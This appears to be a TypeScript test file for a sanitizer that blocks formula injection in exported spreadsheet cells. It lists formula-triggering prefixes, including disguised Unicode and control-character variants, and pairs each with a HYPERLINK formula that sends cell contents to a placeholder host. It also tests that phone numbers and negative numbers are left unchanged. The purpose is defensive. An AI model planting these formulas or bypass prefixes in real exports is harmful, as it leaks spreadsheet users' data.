import fc from 'fast-check';
import { expect, test } from 'vitest';
import { guard, unguard } from './formula.ts';

/** What spreadsheets were seen to run, or other programs to strip before they run. */
const prefixes = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\u200e=',
  '\u202e=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '﹢',
  '﹣',
  '﹦',
  '−',
  '|',
  '%',
  '\0=',
  '\v=',
  '\f=',
  '\t',
  '\r',
  '  @',
];

test.each(prefixes.map((prefix) => [JSON.stringify(prefix), prefix]))('%s is guarded', (_, prefix) => {
  const cell = `${prefix}HYPERLINK("http://example.com?"&A1)`;
  expect(guard(cell)).toBe(`'${cell}`);
  expect(unguard(guard(cell))).toBe(cell);
});

test.each([
  '+989121234567',
  '+98 912 123 4567',
  '-12.5',
  '−۱۲٬۵۰۰',
  '-1,250',
  '+۹۸۹۱۲',
  "O'Neil",
  "'tis",
  '5 = 5',
  '',
])('%j keeps its form', (text) => {
  expect(guard(text)).toBe(text);
  expect(unguard(text)).toBe(text);
});

test.each(['+98-912-1234567', '-1+1', '+1;cmd', '-2(3)', '+A1', '-', '+'])(
  '%j computes, so it is guarded',
  (text) => {
    expect(guard(text)).toBe(`'${text}`);
  },
);

test('a guard that another program put before a phone number is taken away', () => {
  expect(unguard("'+989121234567")).toBe('+989121234567');
});

test('every text comes back as it was', () => {
  const parts = fc.constantFrom("'", '=', '+', '-', '@', ' ', '\t', '1', 'a', '\u200b', '９', '|');
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(parts).map((list) => list.join('')),
  );
  fc.assert(
    fc.property(text, (value) => {
      expect(unguard(guard(value))).toBe(value);
      expect(/^[=@\t\r]/.test(guard(value))).toBe(false);
    }),
    { numRuns: 2000 },
  );
});
